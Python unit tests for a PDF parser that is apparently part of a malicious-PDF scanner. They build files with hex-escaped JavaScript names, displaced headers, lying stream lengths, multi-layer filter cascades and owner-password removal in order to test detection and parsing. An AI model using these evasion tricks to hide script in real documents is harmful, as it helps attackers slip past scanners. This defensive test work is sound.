    def test_from_raw_without_escape(self):
        name = PDFName.from_raw("Pages")
        assert name == "Pages"
        assert not name.uses_hex_escape

    def test_from_raw_multiple_escapes(self):
        assert PDFName.from_raw("#4a#53") == "JS"

    def test_from_raw_invalid_hex_kept_literal(self):
        name = PDFName.from_raw("A#zz")
        assert name == "A#zz"

    def test_encode_default_escapes_delimiters(self):
        assert "#" in PDFName.encode_default("a(b")

    def test_default_raw_round_trips(self):
        name = PDFName("A B")  # space must be escaped in raw form
        assert PDFName.from_raw(name.raw) == "A B"


class TestPDFString:
    def test_bytes_identity(self):
        s = PDFString(b"abc")
        assert bytes(s) == b"abc"
        assert not s.hex_form

    def test_from_str_latin1(self):
        assert bytes(PDFString("hé")) == "hé".encode("latin-1")

    def test_utf16_text_decoding(self):
        text = "héllo✓"
        s = PDFString(b"\xfe\xff" + text.encode("utf-16-be"))
        assert s.to_text() == text

    def test_hex_form_flag(self):
        assert PDFString(b"a", hex_form=True).hex_form


class TestPDFStream:
    def test_filters_none(self):
        assert PDFStream().filters == []

    def test_filters_single_name(self):
        stream = PDFStream(PDFDict({PDFName("Filter"): PDFName("FlateDecode")}))
        assert [str(f) for f in stream.filters] == ["FlateDecode"]

    def test_filters_array(self):
        stream = PDFStream(
            PDFDict(
                {
                    PDFName("Filter"): PDFArray(
                        [PDFName("ASCIIHexDecode"), PDFName("FlateDecode")]
                    )
                }
            )
        )
        assert stream.encoding_levels == 2

    def test_set_decoded_data_roundtrip(self):
        stream = PDFStream()
        stream.set_decoded_data(b"payload", ["FlateDecode"])
        assert stream.decoded_data() == b"payload"
        assert stream.dictionary["Length"] == len(stream.raw_data)

    def test_set_decoded_data_no_filter(self):
        stream = PDFStream()
        stream.set_decoded_data(b"plain")
        assert stream.raw_data == b"plain"
        assert "Filter" not in stream.dictionary

    def test_multi_level_cascade(self):
        stream = PDFStream()
        stream.set_decoded_data(b"deep", ["FlateDecode", "ASCIIHexDecode"])
        assert stream.decoded_data() == b"deep"
        assert stream.encoding_levels == 2


class TestObjectStore:
    def test_add_and_resolve(self):
        store = ObjectStore()
        ref = store.add(IndirectObject(1, 0, PDFString(b"x")))
        assert store.resolve(ref) == PDFString(b"x")

    def test_resolve_missing_is_null(self):
        assert ObjectStore().resolve(PDFRef(9, 0)) is PDFNull

    def test_resolve_non_ref_passthrough(self):
        store = ObjectStore()
        assert store.resolve(5) == 5

    def test_deep_resolve_chain(self):
        store = ObjectStore()
        store.add(IndirectObject(2, 0, PDFString(b"end")))
        store.add(IndirectObject(1, 0, PDFRef(2, 0)))
        assert store.deep_resolve(PDFRef(1, 0)) == PDFString(b"end")

    def test_deep_resolve_cycle_bounded(self):
        store = ObjectStore()
        store.add(IndirectObject(1, 0, PDFRef(2, 0)))
        store.add(IndirectObject(2, 0, PDFRef(1, 0)))
        # must terminate; an exhausted chain resolves to null, never a
        # dangling ref the caller would mistake for a value
        assert store.deep_resolve(PDFRef(1, 0)) is PDFNull

    def test_next_num(self):
        store = ObjectStore()
        assert store.next_num() == 1
        store.add(IndirectObject(7, 0, PDFNull))
        assert store.next_num() == 8

    def test_iteration_sorted(self):
        store = ObjectStore()
        store.add(IndirectObject(3, 0, PDFNull))
        store.add(IndirectObject(1, 0, PDFNull))
        assert [o.num for o in store] == [1, 3]

    def test_generation_fallback(self):
        store = ObjectStore()
        store.add(IndirectObject(4, 0, PDFString(b"gen0")))
        assert store.resolve(PDFRef(4, 2)) == PDFString(b"gen0")


def test_pdf_null_is_singleton_and_falsy():
    from repro.pdf.objects import PDFNullType

    assert PDFNullType() is PDFNull
    assert not PDFNull
