"""Tests for cross-reference *streams* (PDF 1.5) and nested page trees.

The corpus writer emits classic xref tables, so these paths are
exercised with hand-built documents: an xref stream with a /W-encoded
entry table, /Index subsections, and a /Prev chain.
"""

import io
import zlib


from repro.pdf.document import PDFDocument
from repro.pdf.objects import PDFArray, PDFDict, PDFName, PDFRef
from repro.pdf.parser import parse_pdf


def build_xref_stream_pdf(with_index: bool = False) -> bytes:
    """A minimal document whose only xref is an xref stream."""
    buf = io.BytesIO()
    buf.write(b"%PDF-1.5\n")
    offsets = {}

    def emit(num: int, body: bytes) -> None:
        offsets[num] = buf.tell()
        buf.write(f"{num} 0 obj\n".encode())
        buf.write(body)
        buf.write(b"\nendobj\n")

    emit(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    emit(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    emit(3, b"<< /Type /Page /Parent 2 0 R >>")
    emit(4, b"<< /S /JavaScript /JS (app.alert('xrefstream');) >>")

    # Entry table: W = [1 4 2]; object 0 is the free-list head.
    rows = bytearray()
    rows += bytes([0]) + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")
    for num in (1, 2, 3, 4):
        rows += bytes([1]) + offsets[num].to_bytes(4, "big") + (0).to_bytes(2, "big")
    rows += bytes([1]) + (0).to_bytes(4, "big") + (0).to_bytes(2, "big")  # self, patched below

    xref_num = 5
    xref_offset_placeholder = len(rows) - 7
    payload = bytes(rows)

    xref_offset = buf.tell()
    payload = (
        payload[:xref_offset_placeholder]
        + bytes([1])
        + xref_offset.to_bytes(4, "big")
        + (0).to_bytes(2, "big")
    )
    compressed = zlib.compress(payload)
    index_entry = b"/Index [0 6] " if with_index else b""
    buf.write(f"{xref_num} 0 obj\n".encode())
    buf.write(
        b"<< /Type /XRef /Size 6 /W [1 4 2] "
        + index_entry
        + b"/Root 1 0 R /Filter /FlateDecode /Length "
        + str(len(compressed)).encode()
        + b" >>\nstream\n"
    )
    buf.write(compressed)
    buf.write(b"\nendstream\nendobj\n")
    buf.write(f"startxref\n{xref_offset}\n%%EOF\n".encode())
    return buf.getvalue()


class TestXrefStreams:
    def test_parses_via_xref_stream(self):
        parsed = parse_pdf(build_xref_stream_pdf())
        assert str(parsed.root.get("Type")) == "Catalog"
        assert not parsed.used_recovery_scan

    def test_trailer_fields_from_stream_dict(self):
        parsed = parse_pdf(build_xref_stream_pdf())
        assert isinstance(parsed.trailer.get("Root"), PDFRef)
        assert int(parsed.trailer.get("Size")) == 6

    def test_index_subsections_honoured(self):
        parsed = parse_pdf(build_xref_stream_pdf(with_index=True))
        assert str(parsed.root.get("Type")) == "Catalog"

    def test_javascript_reachable(self):
        doc = PDFDocument.from_bytes(build_xref_stream_pdf())
        (action,) = list(doc.iter_javascript_actions())
        assert doc.get_javascript_code(action) == "app.alert('xrefstream');"

    def test_reader_opens_it(self):
        from repro.reader import Reader

        outcome = Reader().open(build_xref_stream_pdf())
        assert outcome.handle.alerts == ["xrefstream"]

    def test_instrumentation_of_xref_stream_doc(self, pipeline):
        report = pipeline.scan(build_xref_stream_pdf(), "modern.pdf")
        assert not report.verdict.malicious
        assert report.outcome.handle.alerts == ["xrefstream"]


class TestNestedPageTree:
    def test_multi_level_kids_flattened(self):
        from repro.pdf.builder import DocumentBuilder

        builder = DocumentBuilder()
        builder.add_page("leaf 1")
        builder.add_page("leaf 2")
        doc = builder.document
        # Re-shape: introduce an intermediate Pages node holding page 2.
        pages_dict = doc.resolve_dict(doc.catalog.get("Pages"))
        kids = pages_dict.get("Kids")
        second_page_ref = kids.pop()
        intermediate = PDFDict(
            {
                PDFName("Type"): PDFName("Pages"),
                PDFName("Kids"): PDFArray([second_page_ref]),
                PDFName("Count"): 1,
            }
        )
        kids.append(doc.add_object(intermediate))
        reparsed = PDFDocument.from_bytes(doc.to_bytes())
        assert reparsed.page_count == 2
