"""Unit tests for the PDF stream filters."""

import pytest

from repro.pdf import filters


SAMPLES = [
    b"",
    b"a",
    b"hello world",
    b"\x00\x01\x02\xff" * 10,
    bytes(range(256)),
    b"A" * 1000,
    b"abc" * 321 + b"\x00",
]


@pytest.mark.parametrize("data", SAMPLES, ids=range(len(SAMPLES)))
@pytest.mark.parametrize(
    "name",
    ["FlateDecode", "ASCIIHexDecode", "ASCII85Decode", "RunLengthDecode", "LZWDecode"],
)
def test_roundtrip_every_filter(name, data):
    assert filters.decode(name, filters.encode(name, data)) == data


def test_flate_tolerates_truncation():
    encoded = filters.flate_encode(b"hello world, this is a longer buffer")
    # drop the trailing checksum bytes; readers still inflate the prefix
    partial = filters.flate_decode(encoded[:-4])
    assert partial.startswith(b"hello")


def test_flate_garbage_raises():
    with pytest.raises(filters.FilterError):
        filters.flate_decode(b"not deflate data")


def test_ascii_hex_ignores_whitespace():
    assert filters.ascii_hex_decode(b"48 65 6c\n6c 6f>") == b"Hello"


def test_ascii_hex_odd_digit_padded():
    assert filters.ascii_hex_decode(b"414>") == b"A@"


def test_ascii_hex_bad_digit():
    with pytest.raises(filters.FilterError):
        filters.ascii_hex_decode(b"4G>")


def test_ascii85_z_shortcut():
    assert filters.ascii85_decode(b"z~>") == b"\0\0\0\0"


def test_ascii85_known_vector():
    # "Man " encodes to 9jqo^ in ascii85
    assert filters.ascii85_encode(b"Man ") == b"9jqo^~>"
    assert filters.ascii85_decode(b"9jqo^~>") == b"Man "


def test_run_length_eod_terminates():
    encoded = filters.run_length_encode(b"aaaabcd")
    assert encoded.endswith(b"\x80")


def test_run_length_truncated_raises():
    with pytest.raises(filters.FilterError):
        filters.run_length_decode(b"\x05ab")


def test_lzw_bad_code_raises():
    with pytest.raises(filters.FilterError):
        filters.lzw_decode(b"\xff\xff\xff\xff")


def test_unsupported_filter_raises():
    with pytest.raises(filters.FilterError):
        filters.decode("JPXDecode", b"")
    with pytest.raises(filters.FilterError):
        filters.encode("JPXDecode", b"")


def test_abbreviated_names_accepted():
    data = b"abbreviated"
    assert filters.decode("Fl", filters.encode("Fl", data)) == data
    assert filters.decode("AHx", filters.encode("AHx", data)) == data


@pytest.mark.parametrize("levels", [0, 1, 2, 3, 4, 5])
def test_cascade_roundtrip(levels):
    names = filters.cascade_names(levels)
    assert len(names) == levels
    data = b"cascade payload \x00\xff" * 17
    encoded = filters.encode_cascade(data, names)
    decoded = encoded
    for name in names:
        decoded = filters.decode(name, decoded)
    assert decoded == data


def test_cascade_names_first_is_base():
    assert filters.cascade_names(3, base="LZWDecode")[0] == "LZWDecode"


def test_decode_stream_applies_cascade():
    from repro.pdf.objects import PDFStream

    stream = PDFStream()
    stream.set_decoded_data(b"nested", ["FlateDecode", "ASCII85Decode", "RunLengthDecode"])
    assert stream.decoded_data() == b"nested"


def test_lzw_long_input_with_table_reset():
    data = bytes((i * 7 + j) % 256 for i in range(200) for j in range(40))
    assert filters.lzw_decode(filters.lzw_encode(data)) == data


class TestBudgetPlacement:
    """The post-extend guarantee: decoders never return more bytes than
    ``max_output``, not even on their final chunk."""

    def test_run_length_final_run_checked(self):
        from repro.limits import ResourceLimitExceeded

        # One 128-byte repeat run and *no* EOD byte: with the old
        # top-of-loop check the loop exited right after the final
        # extend and returned all 128 bytes despite a 100-byte budget.
        data = bytes([129, 65])
        with pytest.raises(ResourceLimitExceeded):
            filters.run_length_decode(data, max_output=100)

    def test_run_length_exact_budget_ok(self):
        data = bytes([129, 65, 128])
        assert filters.run_length_decode(data, max_output=128) == b"A" * 128

    def test_lzw_eod_path_checked(self):
        from repro.limits import ResourceLimitExceeded

        encoded = filters.lzw_encode(b"A" * 64)  # ends with an EOD code
        with pytest.raises(ResourceLimitExceeded):
            filters.lzw_decode(encoded, max_output=32)

    def test_lzw_exact_budget_ok(self):
        encoded = filters.lzw_encode(b"A" * 64)
        assert filters.lzw_decode(encoded, max_output=64) == b"A" * 64


class TestCascadeMaterialisation:
    def test_multi_layer_cascade_decodes(self):
        data = b"payload " * 100
        names = ["FlateDecode", "ASCIIHexDecode", "RunLengthDecode", "ASCII85Decode"]
        encoded = filters.encode_cascade(data, names)
        out = encoded
        for name in names:
            out = filters.decode(name, out)
        assert out == data

    def test_raw_decoders_accept_bytearray(self):
        # Cascades hand bytearrays between layers; every decoder must
        # accept them.
        for name in filters.SUPPORTED_FILTERS:
            encoded = bytearray(filters.encode(name, b"hello world"))
            assert filters.decode(name, encoded) == b"hello world"
