"""Unit tests for the PDF tokenizer."""

import pytest

from repro.pdf.lexer import Lexer, LexerError, TokenType


def tokens_of(data: bytes):
    lexer = Lexer(data)
    out = []
    while True:
        token = lexer.next_token()
        if token.type is TokenType.EOF:
            return out
        out.append(token)


def test_numbers():
    values = [t.value for t in tokens_of(b"1 -2 +3 4.5 -0.25 .5")]
    assert values == [1, -2, 3, 4.5, -0.25, 0.5]


def test_name_with_hex_escape_kept_raw():
    (token,) = tokens_of(b"/JavaScr#69pt")
    assert token.type is TokenType.NAME
    assert token.value == "JavaScr#69pt"


def test_literal_string_with_escapes():
    (token,) = tokens_of(rb"(a\(b\)c \n \101)")
    assert token.type is TokenType.STRING
    assert token.value == b"a(b)c \n A"


def test_literal_string_nested_parens():
    (token,) = tokens_of(b"(outer (inner) tail)")
    assert token.value == b"outer (inner) tail"


def test_literal_string_line_continuation():
    (token,) = tokens_of(b"(line\\\ncont)")
    assert token.value == b"linecont"


def test_unterminated_string_raises():
    with pytest.raises(LexerError):
        tokens_of(b"(never closed")


def test_hex_string():
    (token,) = tokens_of(b"<48 65 6C>")
    assert token.type is TokenType.HEX_STRING
    assert token.value == b"Hel"


def test_hex_string_odd_padded():
    (token,) = tokens_of(b"<484>")
    assert token.value == b"H@"


def test_dict_and_array_delimiters():
    kinds = [t.type for t in tokens_of(b"<< /A [1 2] >>")]
    assert kinds == [
        TokenType.DICT_OPEN,
        TokenType.NAME,
        TokenType.ARRAY_OPEN,
        TokenType.NUMBER,
        TokenType.NUMBER,
        TokenType.ARRAY_CLOSE,
        TokenType.DICT_CLOSE,
    ]


def test_comment_skipped():
    values = [t.value for t in tokens_of(b"1 % comment to eol\n2")]
    assert values == [1, 2]


def test_keywords():
    values = [t.value for t in tokens_of(b"obj endobj stream R true false null")]
    assert values == ["obj", "endobj", "stream", "R", "true", "false", "null"]


def test_expect_keyword():
    lexer = Lexer(b"trailer <<>>")
    lexer.expect_keyword("trailer")
    with pytest.raises(LexerError):
        Lexer(b"xref").expect_keyword("trailer")


def test_try_keyword_rewinds():
    lexer = Lexer(b"hello")
    assert not lexer.try_keyword("xref")
    assert lexer.next_token().value == "hello"


def test_read_integer_pair():
    assert Lexer(b"0 6").read_integer_pair() == (0, 6)
    lexer = Lexer(b"trailer")
    assert lexer.read_integer_pair() is None
    assert lexer.next_token().value == "trailer"


def test_skip_eol_variants():
    for eol in (b"\n", b"\r", b"\r\n"):
        lexer = Lexer(eol + b"X")
        lexer.skip_eol()
        assert lexer.data[lexer.pos : lexer.pos + 1] == b"X"


def test_peek_token_does_not_advance():
    lexer = Lexer(b"42")
    assert lexer.peek_token().value == 42
    assert lexer.next_token().value == 42


class TestTolerance:
    """Malformed-syntax tolerance: truncate/skip with a warning instead
    of raising (raising rewards evasion by dropping whole objects)."""

    def test_malformed_number_truncated(self):
        lexer = Lexer(b"2-3")
        first = lexer.next_token()
        second = lexer.next_token()
        assert (first.type, first.value) == (TokenType.NUMBER, 2)
        assert (second.type, second.value) == (TokenType.NUMBER, -3)
        assert any("malformed number" in w for w in lexer.warnings)

    def test_bare_sign_skipped(self):
        lexer = Lexer(b"+ 7")
        token = lexer.next_token()
        assert (token.type, token.value) == (TokenType.NUMBER, 7)
        assert any("skipped malformed number" in w for w in lexer.warnings)

    def test_lone_dot_skipped_then_eof(self):
        lexer = Lexer(b".")
        assert lexer.next_token().type is TokenType.EOF
        assert lexer.warnings

    def test_malformed_float_prefix_kept(self):
        lexer = Lexer(b"1.2.3")
        token = lexer.next_token()
        assert token.type is TokenType.NUMBER
        assert token.value == pytest.approx(1.2)

    def test_hex_string_bad_digit_skipped(self):
        lexer = Lexer(b"<48G45ZZ4C>")
        token = lexer.next_token()
        assert token.type is TokenType.HEX_STRING
        assert token.value == b"HEL"
        assert any("non-hex byte" in w for w in lexer.warnings)

    def test_unterminated_hex_string_still_raises(self):
        with pytest.raises(LexerError):
            Lexer(b"<48").next_token()

    def test_many_junk_runs_do_not_recurse(self):
        # The junk-skip path must loop, not recurse: thousands of
        # consecutive junk runs used to be a RecursionError.
        data = b"+ " * 5000 + b"1"
        lexer = Lexer(data)
        assert lexer.next_token().value == 1

    def test_warning_cap(self):
        from repro.pdf.lexer import MAX_LEXER_WARNINGS

        lexer = Lexer(b"+ " * 500)
        while lexer.next_token().type is not TokenType.EOF:
            pass
        assert len(lexer.warnings) == MAX_LEXER_WARNINGS + 1
        assert lexer.warnings[-1] == "further lexer tolerance warnings suppressed"

    def test_shared_warning_sink(self):
        sink = ["pre-existing"]
        lexer = Lexer(b"2-3", warnings=sink)
        lexer.next_token()
        assert lexer.warnings is sink
        assert len(sink) == 2


class TestReferenceEquivalence:
    """Spot checks that the fast lexer matches the frozen reference
    (the exhaustive comparison is the hypothesis property)."""

    CASES = [
        b"1 0 obj << /A [1 2.5 -3 (str) <DEAD> /Nm ] >> endobj",
        b"(nested (parens) and \\t escapes \\101\\102)",
        b"% comment\n  42",
        b"<< /Key/Value/K2 true >>",
    ]

    @pytest.mark.parametrize("data", CASES, ids=range(len(CASES)))
    def test_same_stream(self, data):
        from repro.pdf._lexer_reference import ReferenceLexer

        fast, ref = Lexer(data), ReferenceLexer(data)
        while True:
            a, b = fast.next_token(), ref.next_token()
            assert (a.type, a.value, a.pos) == (b.type, b.value, b.pos)
            if a.type is TokenType.EOF:
                break
