"""Unit tests for the PDF tokenizer."""

import pytest

from repro.pdf.lexer import Lexer, LexerError, TokenType


def tokens_of(data: bytes):
    lexer = Lexer(data)
    out = []
    while True:
        token = lexer.next_token()
        if token.type is TokenType.EOF:
            return out
        out.append(token)


def test_numbers():
    values = [t.value for t in tokens_of(b"1 -2 +3 4.5 -0.25 .5")]
    assert values == [1, -2, 3, 4.5, -0.25, 0.5]


def test_name_with_hex_escape_kept_raw():
    (token,) = tokens_of(b"/JavaScr#69pt")
    assert token.type is TokenType.NAME
    assert token.value == "JavaScr#69pt"


def test_literal_string_with_escapes():
    (token,) = tokens_of(rb"(a\(b\)c \n \101)")
    assert token.type is TokenType.STRING
    assert token.value == b"a(b)c \n A"


def test_literal_string_nested_parens():
    (token,) = tokens_of(b"(outer (inner) tail)")
    assert token.value == b"outer (inner) tail"


def test_literal_string_line_continuation():
    (token,) = tokens_of(b"(line\\\ncont)")
    assert token.value == b"linecont"


def test_unterminated_string_raises():
    with pytest.raises(LexerError):
        tokens_of(b"(never closed")


def test_hex_string():
    (token,) = tokens_of(b"<48 65 6C>")
    assert token.type is TokenType.HEX_STRING
    assert token.value == b"Hel"


def test_hex_string_odd_padded():
    (token,) = tokens_of(b"<484>")
    assert token.value == b"H@"


def test_dict_and_array_delimiters():
    kinds = [t.type for t in tokens_of(b"<< /A [1 2] >>")]
    assert kinds == [
        TokenType.DICT_OPEN,
        TokenType.NAME,
        TokenType.ARRAY_OPEN,
        TokenType.NUMBER,
        TokenType.NUMBER,
        TokenType.ARRAY_CLOSE,
        TokenType.DICT_CLOSE,
    ]


def test_comment_skipped():
    values = [t.value for t in tokens_of(b"1 % comment to eol\n2")]
    assert values == [1, 2]


def test_keywords():
    values = [t.value for t in tokens_of(b"obj endobj stream R true false null")]
    assert values == ["obj", "endobj", "stream", "R", "true", "false", "null"]


def test_expect_keyword():
    lexer = Lexer(b"trailer <<>>")
    lexer.expect_keyword("trailer")
    with pytest.raises(LexerError):
        Lexer(b"xref").expect_keyword("trailer")


def test_try_keyword_rewinds():
    lexer = Lexer(b"hello")
    assert not lexer.try_keyword("xref")
    assert lexer.next_token().value == "hello"


def test_read_integer_pair():
    assert Lexer(b"0 6").read_integer_pair() == (0, 6)
    lexer = Lexer(b"trailer")
    assert lexer.read_integer_pair() is None
    assert lexer.next_token().value == "trailer"


def test_skip_eol_variants():
    for eol in (b"\n", b"\r", b"\r\n"):
        lexer = Lexer(eol + b"X")
        lexer.skip_eol()
        assert lexer.data[lexer.pos : lexer.pos + 1] == b"X"


def test_peek_token_does_not_advance():
    lexer = Lexer(b"42")
    assert lexer.peek_token().value == 42
    assert lexer.next_token().value == 42
