"""Unit tests for the RC4 standard security handler."""

import pytest

from repro.pdf import encryption
from repro.pdf.builder import DocumentBuilder
from repro.pdf.document import PDFDocument


def build_encrypted(owner="s3cret", user="") -> bytes:
    builder = DocumentBuilder()
    builder.add_page("classified")
    builder.add_javascript("var secret = 42;")
    doc = builder.build()
    encryption.encrypt_document(doc, owner, user)
    return doc.to_bytes()


class TestRC4:
    def test_symmetry(self):
        key = b"key12"
        data = b"some plaintext \x00\xff bytes"
        assert encryption.rc4(key, encryption.rc4(key, data)) == data

    def test_known_vector(self):
        # RFC 6229-style check: RC4("Key", "Plaintext")
        out = encryption.rc4(b"Key", b"Plaintext")
        assert out.hex() == "bbf316e8d940af0ad3"

    def test_different_keys_differ(self):
        data = b"constant"
        assert encryption.rc4(b"a", data) != encryption.rc4(b"b", data)


class TestHandler:
    def test_encrypt_marks_trailer(self):
        doc = PDFDocument.from_bytes(build_encrypted())
        assert "Encrypt" in doc.trailer

    def test_strings_are_scrambled_on_disk(self):
        data = build_encrypted()
        assert b"var secret = 42;" not in data

    def test_owner_password_removal_recovers_content(self):
        doc = PDFDocument.from_bytes(build_encrypted())
        encryption.remove_owner_password(doc)
        (action,) = list(doc.iter_javascript_actions())
        assert doc.get_javascript_code(action) == "var secret = 42;"
        assert "Encrypt" not in doc.trailer

    def test_decrypted_roundtrip(self):
        doc = PDFDocument.from_bytes(build_encrypted())
        encryption.remove_owner_password(doc)
        doc2 = PDFDocument.from_bytes(doc.to_bytes())
        (action,) = list(doc2.iter_javascript_actions())
        assert doc2.get_javascript_code(action) == "var secret = 42;"

    def test_nonempty_user_password_rejected(self):
        doc = PDFDocument.from_bytes(build_encrypted(user="userpw"))
        with pytest.raises(encryption.EncryptionError):
            encryption.remove_owner_password(doc)

    def test_unencrypted_document_passthrough(self, simple_doc_bytes):
        doc = PDFDocument.from_bytes(simple_doc_bytes)
        encryption.remove_owner_password(doc)  # no-op
        assert "Encrypt" not in doc.trailer

    def test_is_encrypted_helper(self, simple_doc_bytes):
        assert not encryption.is_encrypted(PDFDocument.from_bytes(simple_doc_bytes))
        assert encryption.is_encrypted(PDFDocument.from_bytes(build_encrypted()))

    def test_owner_entry_depends_on_owner_password(self):
        o1 = encryption.compute_owner_entry(b"alpha", b"")
        o2 = encryption.compute_owner_entry(b"beta", b"")
        assert o1 != o2
        assert len(o1) == 32
