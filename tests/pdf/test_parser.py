"""Unit tests for the PDF parser (xref, recovery, header, streams)."""

import pytest

from repro.pdf.builder import DocumentBuilder
from repro.pdf.objects import PDFDict, PDFName, PDFRef, PDFStream, PDFString
from repro.pdf.parser import PDFParseError, parse_pdf


def build_simple() -> bytes:
    builder = DocumentBuilder()
    builder.add_page("parser test")
    return builder.to_bytes()


class TestHeader:
    def test_clean_header(self):
        parsed = parse_pdf(build_simple())
        assert parsed.header.at_start
        assert parsed.header.version == (1, 4)
        assert not parsed.header.obfuscated

    def test_displaced_header_detected(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.obfuscate_header(displace=64)
        parsed = parse_pdf(builder.to_bytes())
        assert parsed.header.present
        assert not parsed.header.at_start
        assert parsed.header.obfuscated

    def test_invalid_version_detected(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.obfuscate_header(version_text="9.9")
        parsed = parse_pdf(builder.to_bytes())
        assert parsed.header.at_start
        assert not parsed.header.version_valid
        assert parsed.header.obfuscated

    def test_missing_header(self):
        data = build_simple()
        headerless = data.replace(b"%PDF-1.4\n", b"%ZZZ-0.0\n", 1)
        parsed = parse_pdf(headerless)
        assert not parsed.header.present
        assert parsed.header.obfuscated


class TestXref:
    def test_xref_parsed_without_recovery(self):
        parsed = parse_pdf(build_simple())
        assert not parsed.used_recovery_scan
        assert len(parsed.store) >= 4

    def test_trailer_root_found(self):
        parsed = parse_pdf(build_simple())
        assert str(parsed.root.get("Type")) == "Catalog"

    def test_broken_xref_falls_back_to_scan(self):
        data = build_simple()
        # corrupt the startxref offset
        broken = data.replace(b"startxref", b"startxrEF")
        parsed = parse_pdf(broken)
        assert parsed.used_recovery_scan
        assert str(parsed.root.get("Type")) == "Catalog"

    def test_bogus_xref_offset_recovers(self):
        data = build_simple()
        idx = data.rfind(b"startxref")
        end = data.find(b"%%EOF", idx)
        broken = data[:idx] + b"startxref\n999999999\n" + data[end:]
        parsed = parse_pdf(broken)
        assert str(parsed.root.get("Type")) == "Catalog"


class TestObjects:
    def test_stream_payload_extracted(self):
        parsed = parse_pdf(build_simple())
        streams = [o.value for o in parsed.store if isinstance(o.value, PDFStream)]
        assert streams
        assert any(b"Tj" in s.decoded_data() for s in streams)

    def test_lying_length_recovered(self):
        data = build_simple()
        # Sabotage the /Length of the content stream.
        sabotaged = data.replace(b"/Length", b"/Lengtq", 1)
        parsed = parse_pdf(sabotaged)
        streams = [o.value for o in parsed.store if isinstance(o.value, PDFStream)]
        assert any(b"Tj" in s.decoded_data() for s in streams)

    def test_indirect_reference_parsing(self):
        parsed = parse_pdf(build_simple())
        catalog = parsed.root
        assert isinstance(catalog.get("Pages"), PDFRef)

    def test_nested_containers(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.document.add_object(
            PDFDict({PDFName("Deep"): PDFDict({PDFName("List"): PDFString(b"v")})})
        )
        parsed = parse_pdf(builder.to_bytes())
        found = [
            o.value
            for o in parsed.store
            if isinstance(o.value, PDFDict) and "Deep" in o.value
        ]
        assert found

    def test_empty_document_raises(self):
        with pytest.raises(PDFParseError):
            parse_pdf(b"")

    def test_garbage_raises(self):
        with pytest.raises(PDFParseError):
            parse_pdf(b"%PDF-1.4\nthis is not a pdf at all")


class TestMalformedTolerance:
    def test_junk_between_objects(self):
        data = build_simple()
        junky = data.replace(b"endobj\n", b"endobj\n% junk comment\n", 1)
        parsed = parse_pdf(junky)
        assert str(parsed.root.get("Type")) == "Catalog"

    def test_no_trailer_catalog_inferred(self):
        # Hand-written minimal doc without trailer.
        body = (
            b"%PDF-1.4\n"
            b"1 0 obj\n<< /Type /Catalog >>\nendobj\n"
        )
        parsed = parse_pdf(body)
        assert str(parsed.root.get("Type")) == "Catalog"

    def test_hex_escaped_names_decoded(self):
        body = (
            b"%PDF-1.4\n"
            b"1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n"
            b"2 0 obj\n<< /S /JavaScr#69pt /#4a#53 (1+1) >>\nendobj\n"
        )
        parsed = parse_pdf(body)
        action = parsed.store.deep_resolve(PDFRef(2, 0))
        assert action.get("JS") == PDFString(b"1+1")
        assert str(action.get("S")) == "JavaScript"
