"""Unit tests for the PDF parser (xref, recovery, header, streams)."""

import pytest

from repro.pdf.builder import DocumentBuilder
from repro.pdf.objects import PDFDict, PDFName, PDFRef, PDFStream, PDFString
from repro.pdf.parser import PDFParseError, parse_pdf


def build_simple() -> bytes:
    builder = DocumentBuilder()
    builder.add_page("parser test")
    return builder.to_bytes()


class TestHeader:
    def test_clean_header(self):
        parsed = parse_pdf(build_simple())
        assert parsed.header.at_start
        assert parsed.header.version == (1, 4)
        assert not parsed.header.obfuscated

    def test_displaced_header_detected(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.obfuscate_header(displace=64)
        parsed = parse_pdf(builder.to_bytes())
        assert parsed.header.present
        assert not parsed.header.at_start
        assert parsed.header.obfuscated

    def test_invalid_version_detected(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.obfuscate_header(version_text="9.9")
        parsed = parse_pdf(builder.to_bytes())
        assert parsed.header.at_start
        assert not parsed.header.version_valid
        assert parsed.header.obfuscated

    def test_missing_header(self):
        data = build_simple()
        headerless = data.replace(b"%PDF-1.4\n", b"%ZZZ-0.0\n", 1)
        parsed = parse_pdf(headerless)
        assert not parsed.header.present
        assert parsed.header.obfuscated


class TestXref:
    def test_xref_parsed_without_recovery(self):
        parsed = parse_pdf(build_simple())
        assert not parsed.used_recovery_scan
        assert len(parsed.store) >= 4

    def test_trailer_root_found(self):
        parsed = parse_pdf(build_simple())
        assert str(parsed.root.get("Type")) == "Catalog"

    def test_broken_xref_falls_back_to_scan(self):
        data = build_simple()
        # corrupt the startxref offset
        broken = data.replace(b"startxref", b"startxrEF")
        parsed = parse_pdf(broken)
        assert parsed.used_recovery_scan
        assert str(parsed.root.get("Type")) == "Catalog"

    def test_bogus_xref_offset_recovers(self):
        data = build_simple()
        idx = data.rfind(b"startxref")
        end = data.find(b"%%EOF", idx)
        broken = data[:idx] + b"startxref\n999999999\n" + data[end:]
        parsed = parse_pdf(broken)
        assert str(parsed.root.get("Type")) == "Catalog"


class TestObjects:
    def test_stream_payload_extracted(self):
        parsed = parse_pdf(build_simple())
        streams = [o.value for o in parsed.store if isinstance(o.value, PDFStream)]
        assert streams
        assert any(b"Tj" in s.decoded_data() for s in streams)

    def test_lying_length_recovered(self):
        data = build_simple()
        # Sabotage the /Length of the content stream.
        sabotaged = data.replace(b"/Length", b"/Lengtq", 1)
        parsed = parse_pdf(sabotaged)
        streams = [o.value for o in parsed.store if isinstance(o.value, PDFStream)]
        assert any(b"Tj" in s.decoded_data() for s in streams)

    def test_indirect_reference_parsing(self):
        parsed = parse_pdf(build_simple())
        catalog = parsed.root
        assert isinstance(catalog.get("Pages"), PDFRef)

    def test_nested_containers(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.document.add_object(
            PDFDict({PDFName("Deep"): PDFDict({PDFName("List"): PDFString(b"v")})})
        )
        parsed = parse_pdf(builder.to_bytes())
        found = [
            o.value
            for o in parsed.store
            if isinstance(o.value, PDFDict) and "Deep" in o.value
        ]
        assert found

    def test_empty_document_raises(self):
        with pytest.raises(PDFParseError):
            parse_pdf(b"")

    def test_garbage_raises(self):
        with pytest.raises(PDFParseError):
